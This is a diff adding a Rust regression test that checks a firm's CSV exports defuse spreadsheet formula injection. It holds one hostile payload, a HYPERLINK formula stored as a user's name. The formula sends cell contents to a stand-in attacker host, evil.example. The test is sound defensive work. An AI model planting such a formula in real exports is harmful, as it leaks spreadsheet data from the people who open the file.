@@ -756,3 +756,44 @@ async fn the_authorization_matrix(backend: Backend) {
     app.stop().await;
 }
 on_both_backends!(the_authorization_matrix);
+
+/// The review found formula injection in the firm's CSV exports: a colleague named
+/// `=HYPERLINK(…)` ran in the owner's spreadsheet. Every export now uses one writer that
+/// defuses every cell.
+async fn firm_exports_defuse_formulas_in_every_cell(backend: Backend) {
+    let app = TestApp::spawn(backend).await;
+    let owner = app.signed_in_browser("owner@firm.se").await;
+    let carl = invite_and_join(&app, &owner, "carl@firm.se", "member").await;
+    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
+    let saved = carl
+        .form(
+            "/api/account/update_profile",
+            &[
+                ("full_name", evil),
+                ("title", "advokat"),
+                ("admission_date", "2015-09-01"),
+                ("birth_date", ""),
+                ("rule_set", ""),
+                ("language", "en"),
+            ],
+        )
+        .await;
+    assert!(saved.status().is_success(), "{}", saved.status());
+    for path in ["/firm/overview.csv?year=2026", "/firm/audit.csv"] {
+        let csv = owner.get(path).await;
+        assert_eq!(csv.status(), 200, "{path}");
+        let csv = csv.text().await.expect("csv");
+        assert!(csv.contains("HYPERLINK"), "{path}: the name is there, as text: {csv}");
+        let mut reader = csv::ReaderBuilder::new().has_headers(true).from_reader(csv.as_bytes());
+        for record in reader.records() {
+            for cell in record.expect("record").iter() {
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{path}: a cell that would run: {cell}"
+                );
+            }
+        }
+    }
+    app.stop().await;
+}
+on_both_backends!(firm_exports_defuse_formulas_in_every_cell);
